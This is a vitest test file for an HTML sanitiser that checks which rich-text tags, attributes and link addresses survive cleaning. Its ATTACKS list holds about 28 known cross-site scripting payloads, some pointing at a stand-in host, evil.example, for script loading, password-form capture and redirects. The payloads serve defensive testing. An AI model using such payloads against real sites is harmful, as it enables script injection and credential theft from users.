import { isRichTextLink, richTextAttributes, richTextTags } from "@banyan/contract";
import { describe, expect, it } from "vitest";
import { sanitiseHtml } from "./sanitise-html.ts";

/** Known script injections from public lists. */
const ATTACKS = [
  `<script>alert(1)</script>`,
  `<ScRiPt src=//evil.example/x.js></ScRiPt>`,
  `<img src=x onerror=alert(1)>`,
  `<svg onload=alert(1)><g/></svg>`,
  `<svg><script>alert&#40;1&#41;</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt&colon;alert(1)">x</a>`,
  `<a href="java\nscript:alert(1)">x</a>`,
  `<a href=" &#14; javascript:alert(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<p style="background:url(javascript:alert(1))" onclick="alert(1)">x</p>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
  `<form action="https://evil.example"><input name=password><button>go</button></form>`,
  `<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<p id="root" class="fixed inset-0">x</p>`,
  `<<p>script>alert(1)<</p>/script>`,
  `<video><source onerror="alert(1)"></video><audio src onloadstart=alert(1)>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<x contenteditable onblur=alert(1)>x</x>`,
];

/** Every tag that is left, with its attributes. */
const tagsOf = (html: string) => html.match(/<[^>]*>/g) ?? [];

const HARMLESS =
  /^<\/?(?:p|br|hr|h[234]|strong|em|u|s|small|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|a)(?: href="(?:https?:\/\/|mailto:|\/(?!\/)|#)[^"<>]*"(?: rel="noopener noreferrer" target="_blank")?| start="\d+"| scope="(?:row|col)")? ?\/?>$/;

describe("sanitiseHtml", () => {
  it.each(ATTACKS)("leaves nothing that could act of %s", (attack) => {
    const clean = sanitiseHtml(`<p>before</p>${attack}<p>after</p>`);
    for (const tag of tagsOf(clean)) expect(tag === "<a>" || HARMLESS.test(tag) ? "harmless" : tag).toBe("harmless");
    expect(clean).toContain("before");
    expect(sanitiseHtml(clean)).toBe(clean);
  });

  it("keeps what a writer needs", () => {
    const page =
      '<h2>Deposits</h2><p><strong>At once</strong>, <em>day</em> or night.</p><ul><li>one</li></ul><table><tbody><tr><th scope="row">a</th><td>b</td></tr></tbody></table><p><a href="/help#withdrawals">more</a></p>';
    expect(sanitiseHtml(page)).toBe(page);
  });

  it("keeps every tag and attribute that the contract lists", () => {
    const page =
      '<h2>a</h2><h3>b</h3><h4>c</h4><p><u>d</u><s>e</s><small>f</small><br /></p><hr /><ol start="3"><li>g</li></ol><blockquote><p>h</p></blockquote><table><thead><tr><th scope="col">i</th></tr></thead><tbody><tr><td><strong>j</strong><em>k</em></td></tr></tbody></table><ul><li><a href="https://help.example/" rel="noopener noreferrer" target="_blank">l</a></li></ul>';
    expect(sanitiseHtml(page)).toBe(page);
    const used = new Set(page.match(/(?<=<)[a-z0-9]+/g));
    expect([...used].toSorted()).toEqual([...richTextTags].toSorted());
    for (const name of Object.values(richTextAttributes).flat()) expect(page).toContain(` ${name}="`);
  });

  it.each([
    "/promotions",
    "/help#deposits",
    "#top",
    "https://help.example/a?b=c",
    "http://10.0.0.1/",
    "mailto:a@b.example",
  ])("keeps a link to %s", (address) => {
    expect(isRichTextLink(address)).toBe(true);
    expect(sanitiseHtml(`<a href="${address}">x</a>`)).toContain(`href="${address}"`);
  });

  it.each([
    "promotions",
    "//elsewhere.example",
    "/\\\\elsewhere.example",
    "ftp://a.example",
    "tel:123",
    "mailto:nobody",
    "https://",
    "#",
  ])("removes the address of a link to %s", (address) => {
    expect(isRichTextLink(address)).toBe(false);
    expect(sanitiseHtml(`<a href="${address}">x</a>`)).toBe("<a>x</a>");
  });

  it("writes the looks of editors in the tags of ours", () => {
    expect(sanitiseHtml('<div><b>a</b><i style="color:red">b</i></div><h1>c</h1>')).toBe(
      "<p><strong>a</strong><em>b</em></p><h2>c</h2>",
    );
  });

  it("opens other sites beside ours, and tells them nothing", () => {
    expect(sanitiseHtml('<a href="https://help.example/" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://help.example/" rel="noopener noreferrer" target="_blank">x</a>',
    );
    expect(sanitiseHtml('<a href="//elsewhere.example/">x</a>')).toBe("<a>x</a>");
  });
});
